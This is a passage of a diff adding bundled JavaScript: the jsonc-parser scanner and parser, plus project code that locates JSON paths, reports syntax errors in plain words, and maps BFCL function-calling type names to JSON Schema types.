+            const ch = text.charCodeAt(pos);
+            if (ch === 42 && text.charCodeAt(pos + 1) === 47) {
+              pos += 2;
+              commentClosed = true;
+              break;
+            }
+            pos++;
+            if (isLineBreak(ch)) {
+              if (ch === 13 && text.charCodeAt(pos) === 10) {
+                pos++;
+              }
+              lineNumber++;
+              tokenLineStartOffset = pos;
+            }
+          }
+          if (!commentClosed) {
+            pos++;
+            scanError = 1;
+          }
+          value = text.substring(start2, pos);
+          return token = 13;
+        }
+        value += String.fromCharCode(code2);
+        pos++;
+        return token = 16;
+      // numbers
+      case 45:
+        value += String.fromCharCode(code2);
+        pos++;
+        if (pos === len || !isDigit(text.charCodeAt(pos))) {
+          return token = 16;
+        }
+      // found a minus, followed by a number so
+      // we fall through to proceed with scanning
+      // numbers
+      case 48:
+      case 49:
+      case 50:
+      case 51:
+      case 52:
+      case 53:
+      case 54:
+      case 55:
+      case 56:
+      case 57:
+        value += scanNumber();
+        return token = 11;
+      // literals and unknown symbols
+      default:
+        while (pos < len && isUnknownContentCharacter(code2)) {
+          pos++;
+          code2 = text.charCodeAt(pos);
+        }
+        if (tokenOffset !== pos) {
+          value = text.substring(tokenOffset, pos);
+          switch (value) {
+            case "true":
+              return token = 8;
+            case "false":
+              return token = 9;
+            case "null":
+              return token = 7;
+          }
+          return token = 16;
+        }
+        value += String.fromCharCode(code2);
+        pos++;
+        return token = 16;
+    }
+  }
+  function isUnknownContentCharacter(code2) {
+    if (isWhiteSpace(code2) || isLineBreak(code2)) {
+      return false;
+    }
+    switch (code2) {
+      case 125:
+      case 93:
+      case 123:
+      case 91:
+      case 34:
+      case 58:
+      case 44:
+      case 47:
+        return false;
+    }
+    return true;
+  }
+  function scanNextNonTrivia() {
+    let result;
+    do {
+      result = scanNext();
+    } while (result >= 12 && result <= 15);
+    return result;
+  }
+  return {
+    setPosition,
+    getPosition: () => pos,
+    scan: ignoreTrivia ? scanNextNonTrivia : scanNext,
+    getToken: () => token,
+    getTokenValue: () => value,
+    getTokenOffset: () => tokenOffset,
+    getTokenLength: () => pos - tokenOffset,
+    getTokenStartLine: () => lineStartOffset,
+    getTokenStartCharacter: () => tokenOffset - prevTokenLineStartOffset,
+    getTokenError: () => scanError
+  };
+}
+function isWhiteSpace(ch) {
+  return ch === 32 || ch === 9;
+}
+function isLineBreak(ch) {
+  return ch === 10 || ch === 13;
+}
+function isDigit(ch) {
+  return ch >= 48 && ch <= 57;
+}
+var CharacterCodes;
+(function(CharacterCodes2) {
+  CharacterCodes2[CharacterCodes2["lineFeed"] = 10] = "lineFeed";
+  CharacterCodes2[CharacterCodes2["carriageReturn"] = 13] = "carriageReturn";
+  CharacterCodes2[CharacterCodes2["space"] = 32] = "space";
+  CharacterCodes2[CharacterCodes2["_0"] = 48] = "_0";
+  CharacterCodes2[CharacterCodes2["_1"] = 49] = "_1";
+  CharacterCodes2[CharacterCodes2["_2"] = 50] = "_2";
+  CharacterCodes2[CharacterCodes2["_3"] = 51] = "_3";
+  CharacterCodes2[CharacterCodes2["_4"] = 52] = "_4";
+  CharacterCodes2[CharacterCodes2["_5"] = 53] = "_5";
+  CharacterCodes2[CharacterCodes2["_6"] = 54] = "_6";
+  CharacterCodes2[CharacterCodes2["_7"] = 55] = "_7";
+  CharacterCodes2[CharacterCodes2["_8"] = 56] = "_8";
+  CharacterCodes2[CharacterCodes2["_9"] = 57] = "_9";
+  CharacterCodes2[CharacterCodes2["a"] = 97] = "a";
+  CharacterCodes2[CharacterCodes2["b"] = 98] = "b";
+  CharacterCodes2[CharacterCodes2["c"] = 99] = "c";
+  CharacterCodes2[CharacterCodes2["d"] = 100] = "d";
+  CharacterCodes2[CharacterCodes2["e"] = 101] = "e";
+  CharacterCodes2[CharacterCodes2["f"] = 102] = "f";
+  CharacterCodes2[CharacterCodes2["g"] = 103] = "g";
+  CharacterCodes2[CharacterCodes2["h"] = 104] = "h";
+  CharacterCodes2[CharacterCodes2["i"] = 105] = "i";
+  CharacterCodes2[CharacterCodes2["j"] = 106] = "j";
+  CharacterCodes2[CharacterCodes2["k"] = 107] = "k";
+  CharacterCodes2[CharacterCodes2["l"] = 108] = "l";
+  CharacterCodes2[CharacterCodes2["m"] = 109] = "m";
+  CharacterCodes2[CharacterCodes2["n"] = 110] = "n";
+  CharacterCodes2[CharacterCodes2["o"] = 111] = "o";
+  CharacterCodes2[CharacterCodes2["p"] = 112] = "p";
+  CharacterCodes2[CharacterCodes2["q"] = 113] = "q";
+  CharacterCodes2[CharacterCodes2["r"] = 114] = "r";
+  CharacterCodes2[CharacterCodes2["s"] = 115] = "s";
+  CharacterCodes2[CharacterCodes2["t"] = 116] = "t";
+  CharacterCodes2[CharacterCodes2["u"] = 117] = "u";
+  CharacterCodes2[CharacterCodes2["v"] = 118] = "v";
+  CharacterCodes2[CharacterCodes2["w"] = 119] = "w";
+  CharacterCodes2[CharacterCodes2["x"] = 120] = "x";
+  CharacterCodes2[CharacterCodes2["y"] = 121] = "y";
+  CharacterCodes2[CharacterCodes2["z"] = 122] = "z";
+  CharacterCodes2[CharacterCodes2["A"] = 65] = "A";
+  CharacterCodes2[CharacterCodes2["B"] = 66] = "B";
+  CharacterCodes2[CharacterCodes2["C"] = 67] = "C";
+  CharacterCodes2[CharacterCodes2["D"] = 68] = "D";
+  CharacterCodes2[CharacterCodes2["E"] = 69] = "E";
+  CharacterCodes2[CharacterCodes2["F"] = 70] = "F";
+  CharacterCodes2[CharacterCodes2["G"] = 71] = "G";
+  CharacterCodes2[CharacterCodes2["H"] = 72] = "H";
+  CharacterCodes2[CharacterCodes2["I"] = 73] = "I";
+  CharacterCodes2[CharacterCodes2["J"] = 74] = "J";
+  CharacterCodes2[CharacterCodes2["K"] = 75] = "K";
+  CharacterCodes2[CharacterCodes2["L"] = 76] = "L";
+  CharacterCodes2[CharacterCodes2["M"] = 77] = "M";
+  CharacterCodes2[CharacterCodes2["N"] = 78] = "N";
+  CharacterCodes2[CharacterCodes2["O"] = 79] = "O";
+  CharacterCodes2[CharacterCodes2["P"] = 80] = "P";
+  CharacterCodes2[CharacterCodes2["Q"] = 81] = "Q";
+  CharacterCodes2[CharacterCodes2["R"] = 82] = "R";
+  CharacterCodes2[CharacterCodes2["S"] = 83] = "S";
+  CharacterCodes2[CharacterCodes2["T"] = 84] = "T";
+  CharacterCodes2[CharacterCodes2["U"] = 85] = "U";
+  CharacterCodes2[CharacterCodes2["V"] = 86] = "V";
+  CharacterCodes2[CharacterCodes2["W"] = 87] = "W";
+  CharacterCodes2[CharacterCodes2["X"] = 88] = "X";
+  CharacterCodes2[CharacterCodes2["Y"] = 89] = "Y";
+  CharacterCodes2[CharacterCodes2["Z"] = 90] = "Z";
+  CharacterCodes2[CharacterCodes2["asterisk"] = 42] = "asterisk";
+  CharacterCodes2[CharacterCodes2["backslash"] = 92] = "backslash";
+  CharacterCodes2[CharacterCodes2["closeBrace"] = 125] = "closeBrace";
+  CharacterCodes2[CharacterCodes2["closeBracket"] = 93] = "closeBracket";
+  CharacterCodes2[CharacterCodes2["colon"] = 58] = "colon";
+  CharacterCodes2[CharacterCodes2["comma"] = 44] = "comma";
+  CharacterCodes2[CharacterCodes2["dot"] = 46] = "dot";
+  CharacterCodes2[CharacterCodes2["doubleQuote"] = 34] = "doubleQuote";
+  CharacterCodes2[CharacterCodes2["minus"] = 45] = "minus";
+  CharacterCodes2[CharacterCodes2["openBrace"] = 123] = "openBrace";
+  CharacterCodes2[CharacterCodes2["openBracket"] = 91] = "openBracket";
+  CharacterCodes2[CharacterCodes2["plus"] = 43] = "plus";
+  CharacterCodes2[CharacterCodes2["slash"] = 47] = "slash";
+  CharacterCodes2[CharacterCodes2["formFeed"] = 12] = "formFeed";
+  CharacterCodes2[CharacterCodes2["tab"] = 9] = "tab";
+})(CharacterCodes || (CharacterCodes = {}));
+
+// node_modules/jsonc-parser/lib/esm/impl/string-intern.js
+var cachedSpaces = new Array(20).fill(0).map((_, index) => {
+  return " ".repeat(index);
+});
+var maxCachedValues = 200;
+var cachedBreakLinesWithSpaces = {
+  " ": {
+    "\n": new Array(maxCachedValues).fill(0).map((_, index) => {
+      return "\n" + " ".repeat(index);
+    }),
+    "\r": new Array(maxCachedValues).fill(0).map((_, index) => {
+      return "\r" + " ".repeat(index);
+    }),
+    "\r\n": new Array(maxCachedValues).fill(0).map((_, index) => {
+      return "\r\n" + " ".repeat(index);
+    })
+  },
+  "	": {
+    "\n": new Array(maxCachedValues).fill(0).map((_, index) => {
+      return "\n" + "	".repeat(index);
+    }),
+    "\r": new Array(maxCachedValues).fill(0).map((_, index) => {
+      return "\r" + "	".repeat(index);
+    }),
+    "\r\n": new Array(maxCachedValues).fill(0).map((_, index) => {
+      return "\r\n" + "	".repeat(index);
+    })
+  }
+};
+
+// node_modules/jsonc-parser/lib/esm/impl/parser.js
+var ParseOptions;
+(function(ParseOptions2) {
+  ParseOptions2.DEFAULT = {
+    allowTrailingComma: false
+  };
+})(ParseOptions || (ParseOptions = {}));
+function parse(text, errors = [], options = ParseOptions.DEFAULT) {
+  let currentProperty = null;
+  let currentParent = [];
+  const previousParents = [];
+  function onValue(value) {
+    if (Array.isArray(currentParent)) {
+      currentParent.push(value);
+    } else if (currentProperty !== null) {
+      currentParent[currentProperty] = value;
+    }
+  }
+  const visitor = {
+    onObjectBegin: () => {
+      const object = {};
+      onValue(object);
+      previousParents.push(currentParent);
+      currentParent = object;
+      currentProperty = null;
+    },
+    onObjectProperty: (name2) => {
+      currentProperty = name2;
+    },
+    onObjectEnd: () => {
+      currentParent = previousParents.pop();
+    },
+    onArrayBegin: () => {
+      const array = [];
+      onValue(array);
+      previousParents.push(currentParent);
+      currentParent = array;
+      currentProperty = null;
+    },
+    onArrayEnd: () => {
+      currentParent = previousParents.pop();
+    },
+    onLiteralValue: onValue,
+    onError: (error, offset, length) => {
+      errors.push({ error, offset, length });
+    }
+  };
+  visit(text, visitor, options);
+  return currentParent[0];
+}
+function parseTree(text, errors = [], options = ParseOptions.DEFAULT) {
+  let currentParent = { type: "array", offset: -1, length: -1, children: [], parent: void 0 };
+  function ensurePropertyComplete(endOffset) {
+    if (currentParent.type === "property") {
+      currentParent.length = endOffset - currentParent.offset;
+      currentParent = currentParent.parent;
+    }
+  }
+  function onValue(valueNode) {
+    currentParent.children.push(valueNode);
+    return valueNode;
+  }
+  const visitor = {
+    onObjectBegin: (offset) => {
+      currentParent = onValue({ type: "object", offset, length: -1, parent: currentParent, children: [] });
+    },
+    onObjectProperty: (name2, offset, length) => {
+      currentParent = onValue({ type: "property", offset, length: -1, parent: currentParent, children: [] });
+      currentParent.children.push({ type: "string", value: name2, offset, length, parent: currentParent });
+    },
+    onObjectEnd: (offset, length) => {
+      ensurePropertyComplete(offset + length);
+      currentParent.length = offset + length - currentParent.offset;
+      currentParent = currentParent.parent;
+      ensurePropertyComplete(offset + length);
+    },
+    onArrayBegin: (offset, length) => {
+      currentParent = onValue({ type: "array", offset, length: -1, parent: currentParent, children: [] });
+    },
+    onArrayEnd: (offset, length) => {
+      currentParent.length = offset + length - currentParent.offset;
+      currentParent = currentParent.parent;
+      ensurePropertyComplete(offset + length);
+    },
+    onLiteralValue: (value, offset, length) => {
+      onValue({ type: getNodeType(value), offset, length, parent: currentParent, value });
+      ensurePropertyComplete(offset + length);
+    },
+    onSeparator: (sep2, offset, length) => {
+      if (currentParent.type === "property") {
+        if (sep2 === ":") {
+          currentParent.colonOffset = offset;
+        } else if (sep2 === ",") {
+          ensurePropertyComplete(offset);
+        }
+      }
+    },
+    onError: (error, offset, length) => {
+      errors.push({ error, offset, length });
+    }
+  };
+  visit(text, visitor, options);
+  const result = currentParent.children[0];
+  if (result) {
+    delete result.parent;
+  }
+  return result;
+}
+function findNodeAtLocation(root, path2) {
+  if (!root) {
+    return void 0;
+  }
+  let node = root;
+  for (let segment of path2) {
+    if (typeof segment === "string") {
+      if (node.type !== "object" || !Array.isArray(node.children)) {
+        return void 0;
+      }
+      let found = false;
+      for (const propertyNode of node.children) {
+        if (Array.isArray(propertyNode.children) && propertyNode.children[0].value === segment && propertyNode.children.length === 2) {
+          node = propertyNode.children[1];
+          found = true;
+          break;
+        }
+      }
+      if (!found) {
+        return void 0;
+      }
+    } else {
+      const index = segment;
+      if (node.type !== "array" || index < 0 || !Array.isArray(node.children) || index >= node.children.length) {
+        return void 0;
+      }
+      node = node.children[index];
+    }
+  }
+  return node;
+}
+function visit(text, visitor, options = ParseOptions.DEFAULT) {
+  const _scanner = createScanner(text, false);
+  const _jsonPath = [];
+  let suppressedCallbacks = 0;
+  function toNoArgVisit(visitFunction) {
+    return visitFunction ? () => suppressedCallbacks === 0 && visitFunction(_scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter()) : () => true;
+  }
+  function toOneArgVisit(visitFunction) {
+    return visitFunction ? (arg2) => suppressedCallbacks === 0 && visitFunction(arg2, _scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter()) : () => true;
+  }
+  function toOneArgVisitWithPath(visitFunction) {
+    return visitFunction ? (arg2) => suppressedCallbacks === 0 && visitFunction(arg2, _scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter(), () => _jsonPath.slice()) : () => true;
+  }
+  function toBeginVisit(visitFunction) {
+    return visitFunction ? () => {
+      if (suppressedCallbacks > 0) {
+        suppressedCallbacks++;
+      } else {
+        let cbReturn = visitFunction(_scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter(), () => _jsonPath.slice());
+        if (cbReturn === false) {
+          suppressedCallbacks = 1;
+        }
+      }
+    } : () => true;
+  }
+  function toEndVisit(visitFunction) {
+    return visitFunction ? () => {
+      if (suppressedCallbacks > 0) {
+        suppressedCallbacks--;
+      }
+      if (suppressedCallbacks === 0) {
+        visitFunction(_scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter());
+      }
+    } : () => true;
+  }
+  const onObjectBegin = toBeginVisit(visitor.onObjectBegin), onObjectProperty = toOneArgVisitWithPath(visitor.onObjectProperty), onObjectEnd = toEndVisit(visitor.onObjectEnd), onArrayBegin = toBeginVisit(visitor.onArrayBegin), onArrayEnd = toEndVisit(visitor.onArrayEnd), onLiteralValue = toOneArgVisitWithPath(visitor.onLiteralValue), onSeparator = toOneArgVisit(visitor.onSeparator), onComment = toNoArgVisit(visitor.onComment), onError = toOneArgVisit(visitor.onError);
+  const disallowComments = options && options.disallowComments;
+  const allowTrailingComma = options && options.allowTrailingComma;
+  function scanNext() {
+    while (true) {
+      const token = _scanner.scan();
+      switch (_scanner.getTokenError()) {
+        case 4:
+          handleError(
+            14
+            /* ParseErrorCode.InvalidUnicode */
+          );
+          break;
+        case 5:
+          handleError(
+            15
+            /* ParseErrorCode.InvalidEscapeCharacter */
+          );
+          break;
+        case 3:
+          handleError(
+            13
+            /* ParseErrorCode.UnexpectedEndOfNumber */
+          );
+          break;
+        case 1:
+          if (!disallowComments) {
+            handleError(
+              11
+              /* ParseErrorCode.UnexpectedEndOfComment */
+            );
+          }
+          break;
+        case 2:
+          handleError(
+            12
+            /* ParseErrorCode.UnexpectedEndOfString */
+          );
+          break;
+        case 6:
+          handleError(
+            16
+            /* ParseErrorCode.InvalidCharacter */
+          );
+          break;
+      }
+      switch (token) {
+        case 12:
+        case 13:
+          if (disallowComments) {
+            handleError(
+              10
+              /* ParseErrorCode.InvalidCommentToken */
+            );
+          } else {
+            onComment();
+          }
+          break;
+        case 16:
+          handleError(
+            1
+            /* ParseErrorCode.InvalidSymbol */
+          );
+          break;
+        case 15:
+        case 14:
+          break;
+        default:
+          return token;
+      }
+    }
+  }
+  function handleError(error, skipUntilAfter = [], skipUntil = []) {
+    onError(error);
+    if (skipUntilAfter.length + skipUntil.length > 0) {
+      let token = _scanner.getToken();
+      while (token !== 17) {
+        if (skipUntilAfter.indexOf(token) !== -1) {
+          scanNext();
+          break;
+        } else if (skipUntil.indexOf(token) !== -1) {
+          break;
+        }
+        token = scanNext();
+      }
+    }
+  }
+  function parseString(isValue) {
+    const value = _scanner.getTokenValue();
+    if (isValue) {
+      onLiteralValue(value);
+    } else {
+      onObjectProperty(value);
+      _jsonPath.push(value);
+    }
+    scanNext();
+    return true;
+  }
+  function parseLiteral() {
+    switch (_scanner.getToken()) {
+      case 11:
+        const tokenValue = _scanner.getTokenValue();
+        let value = Number(tokenValue);
+        if (isNaN(value)) {
+          handleError(
+            2
+            /* ParseErrorCode.InvalidNumberFormat */
+          );
+          value = 0;
+        }
+        onLiteralValue(value);
+        break;
+      case 7:
+        onLiteralValue(null);
+        break;
+      case 8:
+        onLiteralValue(true);
+        break;
+      case 9:
+        onLiteralValue(false);
+        break;
+      default:
+        return false;
+    }
+    scanNext();
+    return true;
+  }
+  function parseProperty() {
+    if (_scanner.getToken() !== 10) {
+      handleError(3, [], [
+        2,
+        5
+        /* SyntaxKind.CommaToken */
+      ]);
+      return false;
+    }
+    parseString(false);
+    if (_scanner.getToken() === 6) {
+      onSeparator(":");
+      scanNext();
+      if (!parseValue()) {
+        handleError(4, [], [
+          2,
+          5
+          /* SyntaxKind.CommaToken */
+        ]);
+      }
+    } else {
+      handleError(5, [], [
+        2,
+        5
+        /* SyntaxKind.CommaToken */
+      ]);
+    }
+    _jsonPath.pop();
+    return true;
+  }
+  function parseObject() {
+    onObjectBegin();
+    scanNext();
+    let needsComma = false;
+    while (_scanner.getToken() !== 2 && _scanner.getToken() !== 17) {
+      if (_scanner.getToken() === 5) {
+        if (!needsComma) {
+          handleError(4, [], []);
+        }
+        onSeparator(",");
+        scanNext();
+        if (_scanner.getToken() === 2 && allowTrailingComma) {
+          break;
+        }
+      } else if (needsComma) {
+        handleError(6, [], []);
+      }
+      if (!parseProperty()) {
+        handleError(4, [], [
+          2,
+          5
+          /* SyntaxKind.CommaToken */
+        ]);
+      }
+      needsComma = true;
+    }
+    onObjectEnd();
+    if (_scanner.getToken() !== 2) {
+      handleError(7, [
+        2
+        /* SyntaxKind.CloseBraceToken */
+      ], []);
+    } else {
+      scanNext();
+    }
+    return true;
+  }
+  function parseArray() {
+    onArrayBegin();
+    scanNext();
+    let isFirstElement = true;
+    let needsComma = false;
+    while (_scanner.getToken() !== 4 && _scanner.getToken() !== 17) {
+      if (_scanner.getToken() === 5) {
+        if (!needsComma) {
+          handleError(4, [], []);
+        }
+        onSeparator(",");
+        scanNext();
+        if (_scanner.getToken() === 4 && allowTrailingComma) {
+          break;
+        }
+      } else if (needsComma) {
+        handleError(6, [], []);
+      }
+      if (isFirstElement) {
+        _jsonPath.push(0);
+        isFirstElement = false;
+      } else {
+        _jsonPath[_jsonPath.length - 1]++;
+      }
+      if (!parseValue()) {
+        handleError(4, [], [
+          4,
+          5
+          /* SyntaxKind.CommaToken */
+        ]);
+      }
+      needsComma = true;
+    }
+    onArrayEnd();
+    if (!isFirstElement) {
+      _jsonPath.pop();
+    }
+    if (_scanner.getToken() !== 4) {
+      handleError(8, [
+        4
+        /* SyntaxKind.CloseBracketToken */
+      ], []);
+    } else {
+      scanNext();
+    }
+    return true;
+  }
+  function parseValue() {
+    switch (_scanner.getToken()) {
+      case 3:
+        return parseArray();
+      case 1:
+        return parseObject();
+      case 10:
+        return parseString(true);
+      default:
+        return parseLiteral();
+    }
+  }
+  scanNext();
+  if (_scanner.getToken() === 17) {
+    if (options.allowEmptyContent) {
+      return true;
+    }
+    handleError(4, [], []);
+    return false;
+  }
+  if (!parseValue()) {
+    handleError(4, [], []);
+    return false;
+  }
+  if (_scanner.getToken() !== 17) {
+    handleError(9, [], []);
+  }
+  return true;
+}
+function getNodeType(value) {
+  switch (typeof value) {
+    case "boolean":
+      return "boolean";
+    case "number":
+      return "number";
+    case "string":
+      return "string";
+    case "object": {
+      if (!value) {
+        return "null";
+      } else if (Array.isArray(value)) {
+        return "array";
+      }
+      return "object";
+    }
+    default:
+      return "null";
+  }
+}
+
+// node_modules/jsonc-parser/lib/esm/main.js
+var ScanError;
+(function(ScanError2) {
+  ScanError2[ScanError2["None"] = 0] = "None";
+  ScanError2[ScanError2["UnexpectedEndOfComment"] = 1] = "UnexpectedEndOfComment";
+  ScanError2[ScanError2["UnexpectedEndOfString"] = 2] = "UnexpectedEndOfString";
+  ScanError2[ScanError2["UnexpectedEndOfNumber"] = 3] = "UnexpectedEndOfNumber";
+  ScanError2[ScanError2["InvalidUnicode"] = 4] = "InvalidUnicode";
+  ScanError2[ScanError2["InvalidEscapeCharacter"] = 5] = "InvalidEscapeCharacter";
+  ScanError2[ScanError2["InvalidCharacter"] = 6] = "InvalidCharacter";
+})(ScanError || (ScanError = {}));
+var SyntaxKind;
+(function(SyntaxKind2) {
+  SyntaxKind2[SyntaxKind2["OpenBraceToken"] = 1] = "OpenBraceToken";
+  SyntaxKind2[SyntaxKind2["CloseBraceToken"] = 2] = "CloseBraceToken";
+  SyntaxKind2[SyntaxKind2["OpenBracketToken"] = 3] = "OpenBracketToken";
+  SyntaxKind2[SyntaxKind2["CloseBracketToken"] = 4] = "CloseBracketToken";
+  SyntaxKind2[SyntaxKind2["CommaToken"] = 5] = "CommaToken";
+  SyntaxKind2[SyntaxKind2["ColonToken"] = 6] = "ColonToken";
+  SyntaxKind2[SyntaxKind2["NullKeyword"] = 7] = "NullKeyword";
+  SyntaxKind2[SyntaxKind2["TrueKeyword"] = 8] = "TrueKeyword";
+  SyntaxKind2[SyntaxKind2["FalseKeyword"] = 9] = "FalseKeyword";
+  SyntaxKind2[SyntaxKind2["StringLiteral"] = 10] = "StringLiteral";
+  SyntaxKind2[SyntaxKind2["NumericLiteral"] = 11] = "NumericLiteral";
+  SyntaxKind2[SyntaxKind2["LineCommentTrivia"] = 12] = "LineCommentTrivia";
+  SyntaxKind2[SyntaxKind2["BlockCommentTrivia"] = 13] = "BlockCommentTrivia";
+  SyntaxKind2[SyntaxKind2["LineBreakTrivia"] = 14] = "LineBreakTrivia";
+  SyntaxKind2[SyntaxKind2["Trivia"] = 15] = "Trivia";
+  SyntaxKind2[SyntaxKind2["Unknown"] = 16] = "Unknown";
+  SyntaxKind2[SyntaxKind2["EOF"] = 17] = "EOF";
+})(SyntaxKind || (SyntaxKind = {}));
+var parse2 = parse;
+var parseTree2 = parseTree;
+var findNodeAtLocation2 = findNodeAtLocation;
+var ParseErrorCode;
+(function(ParseErrorCode2) {
+  ParseErrorCode2[ParseErrorCode2["InvalidSymbol"] = 1] = "InvalidSymbol";
+  ParseErrorCode2[ParseErrorCode2["InvalidNumberFormat"] = 2] = "InvalidNumberFormat";
+  ParseErrorCode2[ParseErrorCode2["PropertyNameExpected"] = 3] = "PropertyNameExpected";
+  ParseErrorCode2[ParseErrorCode2["ValueExpected"] = 4] = "ValueExpected";
+  ParseErrorCode2[ParseErrorCode2["ColonExpected"] = 5] = "ColonExpected";
+  ParseErrorCode2[ParseErrorCode2["CommaExpected"] = 6] = "CommaExpected";
+  ParseErrorCode2[ParseErrorCode2["CloseBraceExpected"] = 7] = "CloseBraceExpected";
+  ParseErrorCode2[ParseErrorCode2["CloseBracketExpected"] = 8] = "CloseBracketExpected";
+  ParseErrorCode2[ParseErrorCode2["EndOfFileExpected"] = 9] = "EndOfFileExpected";
+  ParseErrorCode2[ParseErrorCode2["InvalidCommentToken"] = 10] = "InvalidCommentToken";
+  ParseErrorCode2[ParseErrorCode2["UnexpectedEndOfComment"] = 11] = "UnexpectedEndOfComment";
+  ParseErrorCode2[ParseErrorCode2["UnexpectedEndOfString"] = 12] = "UnexpectedEndOfString";
+  ParseErrorCode2[ParseErrorCode2["UnexpectedEndOfNumber"] = 13] = "UnexpectedEndOfNumber";
+  ParseErrorCode2[ParseErrorCode2["InvalidUnicode"] = 14] = "InvalidUnicode";
+  ParseErrorCode2[ParseErrorCode2["InvalidEscapeCharacter"] = 15] = "InvalidEscapeCharacter";
+  ParseErrorCode2[ParseErrorCode2["InvalidCharacter"] = 16] = "InvalidCharacter";
+})(ParseErrorCode || (ParseErrorCode = {}));
+function printParseErrorCode(code2) {
+  switch (code2) {
+    case 1:
+      return "InvalidSymbol";
+    case 2:
+      return "InvalidNumberFormat";
+    case 3:
+      return "PropertyNameExpected";
+    case 4:
+      return "ValueExpected";
+    case 5:
+      return "ColonExpected";
+    case 6:
+      return "CommaExpected";
+    case 7:
+      return "CloseBraceExpected";
+    case 8:
+      return "CloseBracketExpected";
+    case 9:
+      return "EndOfFileExpected";
+    case 10:
+      return "InvalidCommentToken";
+    case 11:
+      return "UnexpectedEndOfComment";
+    case 12:
+      return "UnexpectedEndOfString";
+    case 13:
+      return "UnexpectedEndOfNumber";
+    case 14:
+      return "InvalidUnicode";
+    case 15:
+      return "InvalidEscapeCharacter";
+    case 16:
+      return "InvalidCharacter";
+  }
+  return "<unknown ParseErrorCode>";
+}
+
+// src/payloads/locate.ts
+var Locator = class {
+  constructor(text, jsonc = false) {
+    this.text = text;
+    this.jsonc = jsonc;
+  }
+  text;
+  jsonc;
+  tree;
+  root() {
+    if (this.tree === void 0) this.tree = parseTree2(this.text, [], { allowTrailingComma: this.jsonc, disallowComments: false }) ?? null;
+    return this.tree;
+  }
+  /** [start, end) of the value (or the property key) at `path`, or of its nearest existing ancestor. */
+  locate(path2, key = false) {
+    const root = this.root();
+    if (!root) return [0, 0];
+    for (let n = path2.length; n >= 0; n--) {
+      const node = findNodeAtLocation2(root, path2.slice(0, n));
+      if (!node) continue;
+      if (key && n === path2.length && node.parent?.type === "property" && node.parent.children?.[0]) {
+        const k = node.parent.children[0];
+        return [k.offset, k.offset + k.length];
+      }
+      return [node.offset, node.offset + node.length];
+    }
+    return [root.offset, root.offset + root.length];
+  }
+};
+var EXPECTED = {
+  InvalidSymbol: "a JSON value (object, array, string, number, true, false or null)",
+  InvalidNumberFormat: "a number",
+  PropertyNameExpected: "a property name in double quotes",
+  ValueExpected: "a value",
+  ColonExpected: '":"',
+  CommaExpected: '"," or the end of the object or array',
+  CloseBraceExpected: '"}"',
+  CloseBracketExpected: '"]"',
+  EndOfFileExpected: "the end of the JSON value",
+  InvalidCommentToken: "no comment (JSON has none)",
+  UnexpectedEndOfComment: "the end of the comment",
+  UnexpectedEndOfString: "a closing double quote",
+  UnexpectedEndOfNumber: "a digit",
+  InvalidUnicode: "a \\uXXXX escape",
+  InvalidEscapeCharacter: 'a valid escape (\\", \\\\, \\/, \\b, \\f, \\n, \\r, \\t, \\uXXXX)',
+  InvalidCharacter: "no control character inside a string (escape it)"
+};
+function foundAt(text, offset, length) {
+  if (offset >= text.length) return "the end of the input";
+  const tok = text.slice(offset, offset + Math.max(1, Math.min(length, 20)));
+  const ch = tok.charCodeAt(0);
+  if (ch < 32) return `control character U+${ch.toString(16).padStart(4, "0").toUpperCase()}`;
+  return JSON.stringify(tok);
+}
+function syntaxCheck(text, jsonc = false) {
+  const errors = [];
+  const value = parse2(text, errors, { disallowComments: !jsonc, allowTrailingComma: jsonc, allowEmptyContent: false });
+  if (!errors.length) return { problem: null, value };
+  const e = errors[0];
+  const code2 = printParseErrorCode(e.error);
+  if (code2 === "ValueExpected" || code2 === "PropertyNameExpected") {
+    let i2 = e.offset - 1;
+    while (i2 >= 0 && /\s/.test(text[i2])) i2--;
+    if (text[i2] === "," && (text[e.offset] === "]" || text[e.offset] === "}")) {
+      return { problem: { start: i2, end: i2 + 1, code: "TrailingComma", expected: `${code2 === "ValueExpected" ? "a value" : "a property"} after "," (JSON allows no trailing comma)`, found: JSON.stringify(text[e.offset]) }, value };
+    }
+  }
+  const start2 = Math.min(e.offset, text.length);
+  const end = Math.min(text.length, start2 + Math.max(1, e.length));
+  return { problem: { start: start2, end: Math.max(start2, end), code: code2, expected: EXPECTED[code2] ?? "valid JSON", found: foundAt(text, e.offset, e.length) }, value };
+}
+
+// src/payloads/schemas.ts
+var import_ajv2 = __toESM(require_ajv(), 1);
+var import__ = __toESM(require__(), 1);
+var import_ajv_formats = __toESM(require_dist2(), 1);
+var addFormats = import_ajv_formats.default.default ?? import_ajv_formats.default;
+var JSON_TYPES = ["string", "number", "integer", "boolean", "object", "array", "null"];
+var BFCL_TYPES = {
+  dict: "object",
+  float: "number",
+  tuple: "array",
+  list: "array",
+  bool: "boolean",
+  Boolean: "boolean",
+  // BFCL's JavaScript category (its JS_TYPE_CONVERSION)
+  any: null,
+  Any: null,
+  byte: "integer",
+  short: "integer",
+  long: "integer",
+  Bigint: "integer",
+  double: "number",
+  char: "string",
+  String: "string",
+  Array: "array",
+  ArrayList: "array",
+  Queue: "array",
+  Stack: "array",
+  Set: "array",
+  HashMap: "object",
+  Hashtable: "object"
+};
+function canonicalJson(value) {
+  if (value === null || typeof value !== "object") return JSON.stringify(value) ?? "null";
+  if (Array.isArray(value)) return `[${value.map(canonicalJson).join(",")}]`;
+  const keys = Object.keys(value).sort();
+  return `{${keys.map((k) => `${JSON.stringify(k)}:${canonicalJson(value[k])}`).join(",")}}`;
+}
+function dialectOf(schema, fallback) {
+  const s = schema && typeof schema === "object" ? schema.$schema : void 0;
+  if (typeof s !== "string") return fallback;
+  if (/2020-12|2019-09/.test(s)) return "2020-12";
+  if (/draft-0[4-7]/.test(s)) return "draft-07";
+  return fallback;
+}
+var TYPE_KEY_HOLDERS = ["properties", "patternProperties", "$defs", "definitions", "dependentSchemas"];
+var SCHEMA_ARRAYS = ["anyOf", "oneOf", "allOf", "prefixItems"];
+var SCHEMA_SINGLES = ["items", "additionalProperties", "not", "if", "then", "else", "contains", "propertyNames", "additionalItems", "unevaluatedProperties", "unevaluatedItems"];
